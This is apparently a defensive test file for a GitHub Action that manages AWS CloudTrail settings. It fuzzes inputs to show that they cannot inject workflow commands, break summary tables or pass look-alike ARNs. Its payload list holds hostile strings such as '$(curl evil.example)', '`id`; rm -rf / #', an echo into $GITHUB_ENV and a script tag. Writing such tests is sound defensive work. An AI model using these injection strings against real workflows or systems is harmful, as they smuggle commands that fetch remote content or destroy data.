// No input value can widen the action's reach, whatever a workflow (or a template gone wrong) passes it:
// newlines, `::` workflow commands, `%0A`, shell metacharacters, very long values, Unicode look-alikes.
// - The log: every workflow command the action writes is one line, and the runner reads back exactly the
//   text that was meant (@actions/core escapes every command the action writes).
// - The summary: a value inside a table cell stays in its cell (GFM, as `marked` parses it).
// - AWS: a value that names an AWS resource, account, region or role is accepted only in the exact ASCII
//   form AWS gives it, so no look-alike or smuggled character reaches a request.
// The end-to-end half (the bundle against the harness) is __tests__/e2e/injection.test.ts.
import { jest } from '@jest/globals'
import fc from 'fast-check'
import { marked, type Tokens } from 'marked'
import * as core from '@actions/core'
import { renderInvalidInputs } from '../../src/report/failure.js'
import { cell, code, table } from '../../src/report/markdown.js'
import { parseSettings } from '../../src/settings/parse.js'
import { rawInputs } from '../support/fixtures.js'

/** Fragments an attacker would try, and characters that break Markdown tables or the log. */
const PAYLOADS = [
  '\n::warning title=INJECTED::pwned',
  '\r\n::error::INJECTED',
  '%0A::notice::INJECTED',
  '%0D%0A::add-mask::x',
  '::stop-commands::token',
  '::set-output name=status::created',
  '$(curl evil.example)',
  '`id`; rm -rf / #',
  '"; echo INJECTED > $GITHUB_ENV; "',
  '| injected | cell |',
  '\n| --- | --- |\n| row | row |',
  '</td><script>alert(1)</script>',
  '```',
  '\\|',
  '\u2028::warning::INJECTED',
  '\u0085::warning::INJECTED',
  'аrn:аws:iam::１１１１１１１１１１１１:role/x', // Cyrillic а, fullwidth digits
  'arn:aws:iam::111111111111:role/x\u200b',
  'us-east-1\u00a0'
]

const hostile = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc
    .tuple(fc.string({ maxLength: 20 }), fc.constantFrom(...PAYLOADS), fc.string({ maxLength: 20 }))
    .map((parts) => parts.join('')),
  fc.string({ minLength: 1000, maxLength: 20_000 })
)

/** Captures what a function writes to stdout. */
function stdoutOf(write: () => void): string {
  const chunks: string[] = []
  const spy = jest.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
    chunks.push(String(chunk))
    return true
  })
  try {
    write()
  } finally {
    spy.mockRestore()
  }
  return chunks.join('')
}

/** The runner's reading of a command's message (actions/runner, ActionCommand: %0D, %0A, then %25). */
const unescapeData = (s: string) => s.replace(/%0D/g, '\r').replace(/%0A/g, '\n').replace(/%25/g, '%')
const unescapeProperty = (s: string) =>
  s.replace(/%0D/g, '\r').replace(/%0A/g, '\n').replace(/%3A/g, ':').replace(/%2C/g, ',').replace(/%25/g, '%')

/** A workflow command line as the runner splits it: ::name key=value,…::message */
function parseCommand(line: string): { name: string; title?: string; message: string } | null {
  const m = /^::([A-Za-z-]+)(?: ([^:]*))?::(.*)$/s.exec(line)
  if (!m) return null
  const title = /(?:^|,)title=([^,]*)/.exec(m[2] ?? '')?.[1]
  return {
    name: m[1] ?? '',
    ...(title !== undefined ? { title: unescapeProperty(title) } : {}),
    message: unescapeData(m[3] ?? '')
  }
}

describe('the log: workflow commands', () => {
  it.each([['@actions/core', (m: string, t: string) => core.error(m, { title: t })]])(
    '%s writes one command line that the runner reads back as the very message and title',
    (_, emit) => {
      fc.assert(
        fc.property(hostile, hostile, (message, title) => {
          const out = stdoutOf(() => emit(message, title))
          const lines = out.split(/\r?\n/).filter((l) => l !== '')
          expect(lines).toHaveLength(1)
          const command = parseCommand(lines[0] ?? '')
          expect(command).toMatchObject({ name: 'error', message })
          if (title !== '') expect(command?.title).toBe(title)
        }),
        { numRuns: 200 }
      )
    }
  )

  it('core.info prints no value that could start a line of its own: the action never logs an input raw', () => {
    // The values the action logs with core.info are names AWS or the settings already validated (an ARN, a
    // tag key). This pins the property the e2e test relies on: an info line is written as it is.
    const out = stdoutOf(() => core.info('a\n::warning::b'))
    expect(out.split('\n')[1]).toBe('::warning::b')
  })
})

/** The single table of a Markdown text, as GitHub's GFM parser (here marked) reads it. */
function tableOf(markdown: string): Tokens.Table {
  const tables = marked.lexer(markdown).filter((t): t is Tokens.Table => t.type === 'table')
  expect(tables).toHaveLength(1)
  return tables[0] as Tokens.Table
}

describe('the summary: a value stays in its cell', () => {
  it.each([
    ['cell', cell],
    ['code', code]
  ])('%s(value) in a table: one row of two cells, however hostile the value', (_, render) => {
    fc.assert(
      fc.property(hostile, (value) => {
        const t = tableOf(table(['Name', 'Value'], [['x', render(value)]]))
        expect(t.rows).toHaveLength(1)
        expect(t.rows[0]).toHaveLength(2)
        expect(t.rows[0]?.[0]?.text).toBe('x')
      }),
      { numRuns: 300 }
    )
  })

  it('the invalid-inputs summary keeps one row per problem, whatever the messages say', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.constantFrom('trail-name', 'tags', 'kms-key-id'), hostile), {
          minLength: 1,
          maxLength: 5
        }),
        (problems) => {
          const t = tableOf(renderInvalidInputs(problems.map(([input, message]) => ({ input, message }))))
          expect(t.rows).toHaveLength(problems.length)
          for (const row of t.rows) expect(row).toHaveLength(2)
        }
      ),
      { numRuns: 100 }
    )
  })
})

/** The inputs that name what AWS is asked about: which account, region, role, trail, bucket, key, topic. */
const ADDRESSING = {
  'trail-name': 'org-trail',
  's3-bucket-name': 'example-org-cloudtrail-logs',
  'aws-region': 'us-east-1',
  'role-to-assume': 'arn:aws:iam::111111111111:role/org-trail',
  'role-session-name': 'org-trail-run',
  'kms-key-id': 'arn:aws:kms:us-east-1:111111111111:key/1234abcd-12ab-34cd-56ef-1234567890ab',
  'sns-topic-name': 'arn:aws:sns:us-east-1:111111111111:org-trail-notes',
  'cloud-watch-logs-log-group-arn': 'arn:aws:logs:us-east-1:111111111111:log-group:CloudTrail/org:*',
  'cloud-watch-logs-role-arn': 'arn:aws:iam::111111111111:role/CloudTrail-CloudWatchLogs',
  'member-role-name': 'org-trail-inventory',
  'log-archive-role-arn': 'arn:aws:iam::222222222222:role/org-trail-log-archive'
} as const

/** Printable ASCII without spaces: the only form AWS gives these names and ARNs. */
const PLAIN_ASCII = /^[\x21-\x7e]+$/

describe('AWS: a value that addresses AWS is accepted only in its exact ASCII form', () => {
  it.each(Object.keys(ADDRESSING) as (keyof typeof ADDRESSING)[])(
    '%s: a payload or look-alike spliced into a valid value is rejected, or leaves it plain ASCII',
    (name) => {
      const valid = ADDRESSING[name]
      fc.assert(
        fc.property(fc.nat(valid.length), hostile, (at, payload) => {
          const value = `${valid.slice(0, at)}${payload}${valid.slice(at)}`
          const result = parseSettings(rawInputs({ ...ADDRESSING, [name]: value }), {})
          // Trimmed like the runner's getInput; what is left must be printable ASCII, or refused.
          if (result.ok) expect(value.trim()).toMatch(PLAIN_ASCII)
          else expect(result.problems.some((p) => p.input === name)).toBe(true)
        }),
        { numRuns: 150 }
      )
    }
  )

  it('the account a role ARN names is the one it spells in ASCII digits, nothing a look-alike could add', () => {
    for (const lookalike of [
      'arn:aws:iam::１１１１１１１１１１１１:role/org-trail',
      'аrn:aws:iam::111111111111:role/org-trail',
      'arn:aws:iam::111111111111:role/org-trail\u200b',
      'arn:aws:iam::111111111111:role/org\u2028trail',
      'arn:aws:iam::111111111111:role/org-trail\n::add-mask::x'
    ]) {
      const result = parseSettings(rawInputs({ 'role-to-assume': lookalike }), {})
      expect({ lookalike, ok: result.ok }).toEqual({ lookalike, ok: false })
    }
  })
})
